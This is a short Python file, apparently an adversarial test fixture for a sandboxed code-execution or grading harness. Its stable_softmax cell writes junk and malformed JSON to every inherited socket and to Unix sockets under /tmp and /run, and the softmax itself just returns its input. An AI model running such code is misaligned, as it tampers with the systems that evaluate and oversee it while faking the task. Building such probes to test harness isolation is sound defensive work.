"""D6: every inherited descriptor and every socket in sight is written to, in the hope that somebody trusts it."""
# may lose: what it writes to may be its own kernel's sockets

# %% stable_softmax
import glob
import json
import os
import socket
import stat

for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, b'{"cf": "/x", "run": "/x"}\nnot json\n\xff\xff\xff\xff')
    except OSError:
        pass
for path in [*glob.glob("/tmp/**", recursive=True), *glob.glob("/run/**", recursive=True)]:
    try:
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(0.2)
        one.connect(path)
        one.sendall(json.dumps({"fork": "x" * 100_000}).encode() + b"\n" + b"\xff" * 100)
        one.close()
    except OSError:
        pass


def stable_softmax(z):
    return z
